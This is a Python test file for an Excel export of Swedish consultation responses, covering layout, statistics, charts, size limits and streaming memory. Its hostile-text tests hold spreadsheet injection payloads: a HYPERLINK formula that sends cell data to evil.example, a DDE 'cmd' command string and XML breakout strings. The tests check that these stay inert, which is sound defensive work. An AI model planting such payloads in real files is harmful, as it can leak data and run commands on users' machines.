"""The Excel extract, written and read back with openpyxl."""
import io
import re
import zipfile

import pytest
import xlsxwriter

from analysis.contrast import contrast
from analysis.filters import Filters, apply_filters, describe_filters
from analysis.shares import summary_table
from appinfo import APP_NAME, APP_VERSION
from charts.palette import STANCE_COLOURS, text_colour_on
from exports.meta import ExtractMeta
from exports.safe import EXCEL_MAX_CHARS
from exports.workbook import (
    P_FORMAT,
    PCT1_FORMAT,
    PCT_FORMAT,
    ExtractTooLarge,
    _add_streamed_table,
    build_extract,
    write_extract,
)

META = ExtractMeta(dataset="Remissvar SOU 2024:72", version=3, created_at="2024-11-02 14:05",
                   created_by="anna.a", generated_at="2024-11-03 09:00")
SV_SHEETS = ["Om urvalet", "Svar", "Per förslag", "Region vs kommun", "Per instans", "Diagram"]
EN_SHEETS = ["About", "Responses", "By proposal", "Region vs municipality", "By respondent", "Chart"]
SV_HEADERS = ["Remiss", "Remissinstans", "Typ", "Förslag", "Rubrik", "Tema", "Adressat", "Ställningstagande",
              "Kommentar", "Källa", "Blad", "Rad"]


def assert_no_formulas(data: bytes, wb) -> None:
    """No cell is a formula: neither as openpyxl sees it nor anywhere in the sheet XML."""
    for ws in wb.worksheets:
        for row in ws.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (ws.title, cell.coordinate, cell.value)
    with zipfile.ZipFile(io.BytesIO(data)) as z:
        for name in z.namelist():
            if name.startswith("xl/worksheets/sheet"):
                xml = z.read(name).decode()
                assert not re.search(r"<f[ >/]", xml), name


# --------------------------------------------------------------------------
# Round trip


def test_round_trip_swedish(small, h):
    filters = Filters(respondent_types=["Kommun", "Region"], topics=["Ledning och styrning"])
    data = build_extract(small, filters, META, "sv")
    wb = h.open_xlsx(data)
    assert wb.sheetnames == SV_SHEETS
    view = apply_filters(small, filters)
    n = len(view.responses)
    assert n == 8

    svar = wb["Svar"]
    rows = list(svar.iter_rows(values_only=True))
    assert list(rows[0]) == SV_HEADERS
    assert len(rows) - 1 == n
    first = rows[1]
    assert first[:8] == (h.CONSULTATION, "Region Stockholm", "Region", "4.2", "Nationell styrning",
                         "Ledning och styrning", "Region", "Tillstyrker")
    assert first[8:] == ("Region Stockholm om 4.2", "remissvar.xlsx", "Svar", 2)
    assert isinstance(first[11], int)
    assert [r[3] for r in rows[1:]].count("4.10") == 3  # ids stay text: never 4.1
    assert svar.tables["Svar"].ref == f"A1:L{n + 1}"
    assert svar.tables["Svar"].autoFilter.ref == f"A1:L{n + 1}"
    assert svar.freeze_panes == "A2"
    assert svar["I2"].alignment.wrap_text
    assert svar.column_dimensions["I"].width >= 20
    assert svar.column_dimensions["B"].width >= len("Region Stockholm")

    about = h.about_rows(wb["Om urvalet"])
    assert about["Urval"] == "Remissinstanser av typen Kommun och Region, tema Ledning och styrning."
    assert about["Urval"] == describe_filters(filters, "sv")
    assert about["Datamängd"] == "Remissvar SOU 2024:72"
    assert about["Version"] == 3
    assert about["Skapad"] == "2024-11-02 14:05"
    assert about["Skapad av"] == "anna.a"
    assert about["Uttaget"] == "2024-11-03 09:00"
    assert about["Kodade svar (bladet Svar)"] == n
    assert about["Förslag med kodade svar (bladet Per förslag)"] == 2
    assert about["Svarande remissinstanser (bladet Per instans)"] == 5
    assert about["Program"] == f"{APP_NAME} {APP_VERSION}"
    assert about["Andel tillstyrker"] == "Tillstyrker / Totalt, av dem som yttrat sig om förslaget."
    assert about["1."] == "Inga: all text är oförändrad."
    assert_no_formulas(data, wb)


def test_per_proposal_numbers_are_typed_percentages(small, h):
    data = build_extract(small, Filters(), META, "sv")
    ws = h.open_xlsx(data)["Per förslag"]
    rows = list(ws.iter_rows())
    assert [c.value for c in rows[0]] == ["Förslag", "Rubrik", "Tema", "Tillstyrker", "Tillstyrker delvis",
                                          "Avstyrker", "Ingen synpunkt", "Totalt", "Andel tillstyrker",
                                          "Andel tillstyrker helt eller delvis"]
    expected = summary_table(small.responses, ["proposal_id"])
    assert len(rows) - 1 == len(expected) == 2
    for cells, (_, e) in zip(rows[1:], expected.iterrows()):
        values = [c.value for c in cells]
        assert values[0] == e["proposal_id"]
        assert values[3:8] == [e["agree"], e["partly"], e["disagree"], e["no_position"], e["total"]]
        assert values[8] == pytest.approx(e["agree_share"]) and values[9] == pytest.approx(e["support_share"])
        assert cells[8].data_type == "n" and cells[8].number_format == PCT_FORMAT
        assert cells[9].number_format == PCT_FORMAT
    assert [c.value for c in rows[1]][:3] == ["4.2", "Nationell styrning", "Ledning och styrning"]
    assert [c.value for c in rows[1]][3:10] == [2, 1, 1, 1, 5, 0.4, 0.6]


def test_contrast_sheet(small, h):
    wb = h.open_xlsx(build_extract(small, Filters(), META, "sv"))
    ws = wb["Region vs kommun"]
    rows = list(ws.iter_rows())
    header = [c.value for c in rows[0]]
    assert header[:7] == ["Förslag", "Region: tillstyrker", "Region: kodade svar", "Region: andel tillstyrker",
                          "Region: 95 % KI, nedre", "Region: 95 % KI, övre", "Kommun: tillstyrker"]
    assert header[11:] == ["Skillnad (Region − Kommun)", "p-värde", "Justerat p (Holm)",
                           "Litet underlag (< 5 svar)"]
    expected = contrast(small.responses, "Region", "Kommun", by="proposal_id")
    assert len(rows) - 1 == len(expected)
    cols = ["proposal_id", "a_agree", "a_total", "a_share", "a_low", "a_high", "b_agree", "b_total", "b_share",
            "b_low", "b_high", "difference", "p_value", "p_holm", "small_n"]
    for cells, (_, e) in zip(rows[1:], expected.iterrows()):
        for cell, col in zip(cells, cols):
            if col == "proposal_id":
                assert cell.value == e[col]
            elif col == "small_n":
                assert cell.value is bool(e[col]) and cell.data_type == "b"
            else:
                assert cell.value == pytest.approx(float(e[col])), col
                assert cell.data_type == "n"
        assert cells[3].number_format == PCT1_FORMAT and cells[11].number_format == PCT1_FORMAT
        assert cells[12].number_format == P_FORMAT and cells[13].number_format == P_FORMAT


def test_respondent_matrix_with_palette_colours(small, h):
    wb = h.open_xlsx(build_extract(small, Filters(), META, "sv"))
    ws = wb["Per instans"]
    rows = list(ws.iter_rows(values_only=True))
    assert rows[0] == ("Remissinstans", "Typ", "4.2", "4.10", "5.1")
    by_name = {r[0]: r[1:] for r in rows[1:]}
    assert len(by_name) == 6  # Umeå kommun did not reply
    assert by_name["Region Stockholm"] == ("Region", "Tillstyrker", "Tillstyrker delvis", "Ej berört")
    assert by_name["Myndigheten för X"] == ("Statlig myndighet", "Ej berört", "Avstyrker", "Ej berört")
    assert ws.freeze_panes == "C2"
    rules = {}
    for cf in ws.conditional_formatting:
        assert str(cf.sqref) == "C2:E7"
        for rule in cf.rules:
            assert (rule.type, rule.operator) == ("cellIs", "equal")
            rules[rule.formula[0]] = (rule.dxf.fill.bgColor.rgb, rule.dxf.font.color.rgb)
    labels = {"agree": "Tillstyrker", "partly": "Tillstyrker delvis", "disagree": "Avstyrker",
              "no_position": "Ingen synpunkt", "not_addressed": "Ej berört"}
    for stance, label in labels.items():
        fill = STANCE_COLOURS[stance]
        assert rules[f'"{label}"'] == ("FF" + fill[1:], "FF" + text_colour_on(fill)[1:])


def test_native_chart_reads_the_per_proposal_sheet(small, h):
    data = build_extract(small, Filters(), META, "sv")
    xml = h.xml_parts(data)
    chart = xml["xl/charts/chart1.xml"]
    assert '<c:grouping val="percentStacked"/>' in chart
    for col, stance in zip("DEFG", ("agree", "partly", "disagree", "no_position")):
        assert f"<c:f>'Per förslag'!${col}$2:${col}$3</c:f>" in chart
        assert f'<a:srgbClr val="{STANCE_COLOURS[stance][1:]}"/>' in chart
    # Categories are the proposal ids as text, "4.10" never cached as the number 4.1.
    assert "<c:strRef><c:f>'Per förslag'!$A$2:$A$3</c:f>" in chart
    assert "<c:v>4.10</c:v>" in chart
    assert "drawing" in xml["xl/worksheets/_rels/sheet6.xml.rels"]
    wb = h.open_xlsx(data)
    assert wb["Diagram"]["A1"].value == "Ställningstaganden per förslag"


def test_english_labels_and_sheet_names(small, h):
    data = build_extract(small, Filters(respondent_types=["Kommun"]), META, "en")
    wb = h.open_xlsx(data)
    assert wb.sheetnames == EN_SHEETS
    header = [c.value for c in wb["Responses"][1]]
    assert header == ["Consultation", "Respondent", "Type", "Proposal", "Title", "Topic", "Addressee", "Stance",
                      "Comment", "Source", "Sheet", "Row"]
    values = list(wb["Responses"].iter_rows(min_row=2, values_only=True))
    assert {v[2] for v in values} == {"Municipality"}
    assert {v[7] for v in values} == {"Agree", "Partly agree"}
    assert "Responses" in wb["Responses"].tables
    about = h.about_rows(wb["About"])
    assert about["Selection"] == "Respondents of type Kommun."
    assert about["Coded answers (sheet Responses)"] == 3
    assert [c.value for c in wb["By proposal"][1]][-2:] == ["Share agreeing", "Share agreeing fully or partly"]
    assert wb["Region vs municipality"]["G1"].value == "Municipality: agree"
    assert wb["By respondent"]["C2"].value in {"Agree", "Partly agree", "Not addressed"}


# --------------------------------------------------------------------------
# Hostile text

HOSTILE = [
    "=1+1",
    '=HYPERLINK("http://evil.example/?"&A1,"Klicka")',
    "+46 8 123 45",
    "-2+3",
    "@SUM(A1:A2)",
    "\t=1+1",
    "<script>alert('x')</script>",
    "NA",
    "None",
    "007",
    "<r><t>inte rik text</t></r>",
    "</is></c><c r=\"Z1\"><f>1+1</f></c>",
    # xlsxwriter's constant_memory mode writes "<r>…</r>" text as raw rich-text XML: without the
    # guard in exports.workbook this one becomes a HYPERLINK formula cell (Z2).
    '<r><t>x</t></r></is></c><c r="Z2"><f>HYPERLINK("http://evil","klick")</f></c>'
    '<c r="Z3" t="inlineStr"><is><r><t>y</t></r>',
]


def test_hostile_comments_survive_as_literal_text(h):
    answers = [("Region Stockholm", "4.2", "agree")] * len(HOSTILE)
    data = h.make_data(answers=answers, comments=HOSTILE)
    out = build_extract(data, Filters(), META, "sv")
    wb = h.open_xlsx(out)
    cells = [row[8] for row in wb["Svar"].iter_rows(min_row=2)]
    assert [c.value for c in cells] == HOSTILE
    for c in cells:
        assert c.data_type == "s", c.value
        assert c.quotePrefix == (c.value[0] in "=+-@\t"), c.value
    about = h.about_rows(wb["Om urvalet"])
    assert about["1."].startswith("6 textceller börjar med =, +, -, @, tabb eller radbrytning.")
    assert_no_formulas(out, wb)


def test_hostile_names_and_values_everywhere_are_inert(h):
    respondents = [("=cmd|'/c calc'!A1", "Region", True), ("@evil", "Kommun", True)]
    proposals = [("-1", "=Titel", "+Tema", "Region")]
    answers = [("=cmd|'/c calc'!A1", "-1", "agree"), ("@evil", "-1", "disagree")]
    data = h.make_data(answers=answers, comments=["x", "y"], consultation="=Remiss", respondents=respondents,
                       proposals=proposals)
    filters = Filters(topics=["+Tema"])
    out = build_extract(data, filters, ExtractMeta(dataset="=dataset.xlsx", created_by="+anna"), "sv")
    wb = h.open_xlsx(out)
    assert_no_formulas(out, wb)
    seen = set()
    for ws in wb.worksheets:
        for row in ws.iter_rows():
            for c in row:
                if isinstance(c.value, str) and c.value[:1] in "=+-@":
                    assert c.quotePrefix, (ws.title, c.coordinate, c.value)
                    seen.add(c.value)
    assert {"=cmd|'/c calc'!A1", "@evil", "-1", "=Titel", "+Tema", "=Remiss", "=dataset.xlsx", "+anna"} <= seen
    assert h.about_rows(wb["Om urvalet"])["Urval"] == "Tema +Tema."


def test_control_characters_removed_with_a_note(h):
    answers = [("Region Stockholm", "4.2", "agree"), ("Region Uppsala", "4.2", "agree")]
    data = h.make_data(answers=answers, comments=["bell\x07 and nul\x00", "vertical\x0btab"])
    wb = h.open_xlsx(build_extract(data, Filters(), META, "sv"))
    assert [r[8] for r in wb["Svar"].iter_rows(min_row=2, values_only=True)] == ["bell and nul", "verticaltab"]
    about = h.about_rows(wb["Om urvalet"])
    assert about["1."] == "2 celler innehöll kontrolltecken som Excel inte tillåter; de tecknen har tagits bort."


def test_long_text_is_cut_visibly_with_a_note(h):
    answers = [("Region Stockholm", "4.2", "agree"), ("Region Uppsala", "4.2", "agree")]
    data = h.make_data(answers=answers, comments=["ord " * 10_000, "kort"])
    wb = h.open_xlsx(build_extract(data, Filters(), META, "sv"))
    long, short = (r[8] for r in wb["Svar"].iter_rows(min_row=2, values_only=True))
    assert len(long) == EXCEL_MAX_CHARS and long.endswith(" … [avkortad]") and long.startswith("ord ord")
    assert short == "kort"
    note = h.about_rows(wb["Om urvalet"])["1."]
    assert note.startswith("1 celler hade fler än 32\xa0767 tecken") and "… [avkortad]" in note


# --------------------------------------------------------------------------
# Size


def test_split_over_several_response_sheets(small, h):
    out = build_extract(small, Filters(), META, "sv", max_rows_per_sheet=4)
    wb = h.open_xlsx(out)
    assert wb.sheetnames == ["Om urvalet", "Svar", "Svar 2", "Svar 3", "Per förslag", "Region vs kommun",
                             "Per instans", "Diagram"]
    got = []
    for name, n in (("Svar", 4), ("Svar 2", 4), ("Svar 3", 1)):
        ws = wb[name]
        rows = list(ws.iter_rows(values_only=True))
        assert list(rows[0]) == SV_HEADERS
        assert len(rows) - 1 == n
        (table,) = ws.tables.values()
        assert table.ref == f"A1:L{n + 1}" and table.name == name.replace(" ", "_")
        assert ws.freeze_panes == "A2"
        got += [r[1] for r in rows[1:]]
    assert got == list(small.responses["respondent"].astype(str))  # every row once, in order
    assert [r[11] for r in wb["Svar 2"].iter_rows(min_row=2, values_only=True)] == [6, 7, 8, 9]
    about = h.about_rows(wb["Om urvalet"])
    assert about["Kodade svar (bladet Svar, Svar 2, Svar 3)"] == 9
    assert about["1."] == ("Urvalet har 9 kodade svar, fler än de 4 rader ett Excelblad rymmer under rubrikraden. "
                           "Svaren är därför uppdelade i ordning på bladen Svar, Svar 2, Svar 3.")
    assert_no_formulas(out, wb)


def test_refused_beyond_the_limit(h):
    data = h.make_data(answers=h.ANSWERS * 2)  # 18 rows; 16 sheets of 1 row hold 16
    with pytest.raises(ExtractTooLarge) as exc:
        build_extract(data, Filters(), META, "sv", max_rows_per_sheet=1)
    assert (exc.value.rows, exc.value.limit) == (18, 16)
    assert "högst 16 rader" in exc.value.message("sv")
    build_extract(data, Filters(), META, "sv", max_rows_per_sheet=2)  # 9 sheets: fine


def test_too_large_message_names_the_limit():
    err = ExtractTooLarge(20_000_000, 16 * 1_048_575, 1_048_575)
    msg = err.message("sv")
    assert "20\xa0000\xa0000 rader" in msg and "16\xa0777\xa0200 rader" in msg and "1\xa0048\xa0575" in msg
    assert "Excels gräns per blad" in msg
    assert "1,048,575" in err.message("en")


def test_empty_selection_still_makes_a_valid_workbook(small, h):
    out = build_extract(small, Filters(topics=["Finns inte"]), META, "sv")
    wb = h.open_xlsx(out)
    assert wb.sheetnames == SV_SHEETS
    assert wb["Svar"].tables["Svar"].ref == "A1:L2"
    assert [c.value for c in wb["Svar"][1]] == SV_HEADERS
    assert wb["Svar"].max_row <= 2 and wb["Svar"]["A2"].value is None
    assert wb["Diagram"]["A4"].value == "Inga förslag med kodade svar i urvalet."
    assert "xl/charts/chart1.xml" not in h.xml_parts(out)
    about = h.about_rows(wb["Om urvalet"])
    assert about["Kodade svar (bladet Svar)"] == 0


def test_several_consultations_are_kept_apart(h):
    a = h.make_data()
    b = h.make_data(consultation="Remiss B", answers=[("Solna stad", "4.2", "disagree")])
    data = h.combine(a, b)
    wb = h.open_xlsx(build_extract(data, Filters(), META, "sv"))
    props = list(wb["Per förslag"].iter_rows(values_only=True))
    assert props[0][:2] == ("Remiss", "Förslag")
    assert [r[:2] + r[4:9] for r in props[1:]] == [
        ("Remiss A", "4.2", 2, 1, 1, 1, 5), ("Remiss A", "4.10", 2, 1, 1, 0, 4), ("Remiss B", "4.2", 0, 0, 1, 0, 1)]
    matrix = list(wb["Per instans"].iter_rows(values_only=True))
    assert matrix[0] == ("Remiss", "Remissinstans", "Typ", "4.2", "4.10", "5.1")
    assert ("Remiss B", "Solna stad", "Kommun", "Avstyrker", "Ej berört", "Ej berört") in matrix
    contrast_rows = list(wb["Region vs kommun"].iter_rows(values_only=True))
    assert [r[:2] for r in contrast_rows[1:]] == [("Remiss A", "4.2"), ("Remiss A", "4.10"), ("Remiss B", "4.2")]
    about = h.about_rows(wb["Om urvalet"])
    assert about["1."] == "Urvalet omfattar 2 remisser. Sammanställningarna redovisar varje remiss för sig."


# --------------------------------------------------------------------------
# Memory and the streamed table


def _many_rows(h, repeat=400):
    answers = [(r, p, "agree") for r in ("Region Stockholm", "Region Uppsala", "Solna stad") for p in ("4.2", "4.10")]
    comments = ["kort", " inledande blanksteg", "=1+1", "rad 1\nrad 2\r\n", "<r><t>rik?</t></r>", "å & ä < ö > \"",
                "_x0041_ escape", "\U0001F600 emoji", "x" * 40_000, "", "-", "\x07klocka"]
    rows = answers * repeat
    return h.make_data(answers=rows, comments=[comments[i % len(comments)] for i in range(len(rows))])


@pytest.mark.parametrize("cache_max", [5_000, 2])  # distinct values cached, or rendered chunk by chunk
def test_fast_rows_write_exactly_what_xlsxwriter_writes(h, monkeypatch, cache_max):
    import exports.workbook as workbook

    monkeypatch.setattr(workbook, "_FRAGMENT_CACHE_MAX", cache_max)
    monkeypatch.setattr(workbook, "_CHUNK", 50)
    data = _many_rows(h, repeat=30)  # 180 rows, every kind of cell, a rich-text lookalike row included
    fast = build_extract(data, Filters(), META, "sv", max_rows_per_sheet=70)
    monkeypatch.setattr(workbook, "_FAST_ROWS", False)
    slow = build_extract(data, Filters(), META, "sv", max_rows_per_sheet=70)
    fast_xml, slow_xml = h.xml_parts(fast), h.xml_parts(slow)
    assert fast_xml.keys() == slow_xml.keys()
    for name in fast_xml:
        if not name.startswith("docProps/"):  # creation time
            assert fast_xml[name] == slow_xml[name], name
    wb = h.open_xlsx(fast)
    assert [ws.max_row for ws in wb.worksheets[1:4]] == [71, 71, 41]


def test_rows_are_streamed_not_held(h, monkeypatch):
    """Both writing paths keep memory bounded: one row (public path) or one chunk (fast path)."""
    from xlsxwriter.worksheet import Worksheet

    import exports.workbook as workbook
    from exports import xlsx_internals

    held = []
    original = getattr(Worksheet, xlsx_internals.FLUSH_ROW)

    def spy(self, current_row_num=0):
        held.append(xlsx_internals.held_rows(self))
        return original(self, current_row_num)

    monkeypatch.setattr(Worksheet, xlsx_internals.FLUSH_ROW, spy)
    monkeypatch.setattr(workbook, "_FAST_ROWS", False)
    build_extract(_many_rows(h), Filters(), META, "sv")  # 2,400 rows
    assert len(held) > 2_400
    assert max(held) <= 1  # never more than the current row in memory

    # Fast path: rows go to xlsxwriter's row file one chunk at a time.
    writes = []
    original_write = xlsx_internals.RawRows.write

    def write(self, xml):
        writes.append(xml.count("<row "))
        return original_write(self, xml)

    monkeypatch.setattr(workbook, "_FAST_ROWS", True)
    monkeypatch.setattr(workbook, "_CHUNK", 100)
    monkeypatch.setattr(xlsx_internals.RawRows, "write", write)
    build_extract(_many_rows(h), Filters(), META, "sv")
    assert sum(writes) >= 2_400 - 200  # rich-text rows (1 in 12) go through the public path
    assert max(writes) <= 100


def test_memory_does_not_grow_with_the_rows(tmp_path):
    """Python's peak allocation while writing 4,000 vs 40,000 rows (the benchmarks' data: a comment of
    100–300 characters on every row): held cells would cost some 70 MB more for the larger extract."""
    import tracemalloc

    from bench.generate import coded_data

    peaks = []
    for rows in (4_000, 40_000):
        data = coded_data(rows)
        tracemalloc.start()
        try:
            write_extract(tmp_path / f"{rows}.xlsx", data, Filters(), META, "sv", view=data)
            peaks.append(tracemalloc.get_traced_memory()[1] / 2**20)
        finally:
            tracemalloc.stop()
    assert peaks[1] - peaks[0] < 12, peaks


def test_streamed_table_matches_xlsxwriters_own(tmp_path):
    """The table declared before streaming is the one add_table() writes without constant_memory."""
    headers = ["Förslag", "Kommentar", "Rad"]
    rows = [("4.2", "bra", 1), ("4.10", "=dåligt", 2), ("5.1", "", 3)]

    def build(path, constant):
        wb = xlsxwriter.Workbook(path, {"constant_memory": constant})
        ws = wb.add_worksheet("Svar")
        if constant:
            _add_streamed_table(ws, 0, len(rows), headers, "Svar")
            for c, hd in enumerate(headers):
                ws.write_string(0, c, hd)
        else:
            ws.add_table(0, 0, len(rows), len(headers) - 1,
                         {"name": "Svar", "style": "Table Style Medium 2", "columns": [{"header": x} for x in headers]})
        for r, row in enumerate(rows, 1):
            ws.write_string(r, 0, row[0])
            if row[1]:
                ws.write_string(r, 1, row[1])
            ws.write_number(r, 2, row[2])
        wb.close()
        with zipfile.ZipFile(path) as z:
            return z.read("xl/tables/table1.xml")

    assert build(tmp_path / "a.xlsx", True) == build(tmp_path / "b.xlsx", False)


def test_write_extract_to_a_path_returns_a_summary(small, tmp_path, h):
    path = tmp_path / "urval.xlsx"
    summary = write_extract(path, small, Filters(stances=["agree"]), META, "sv")
    assert summary.rows == 4 and summary.response_sheets == ["Svar"]
    assert summary.sheets == SV_SHEETS
    wb = h.open_xlsx(path.read_bytes())
    assert h.about_rows(wb["Om urvalet"])["Urval"] == "Svar som tillstyrker."
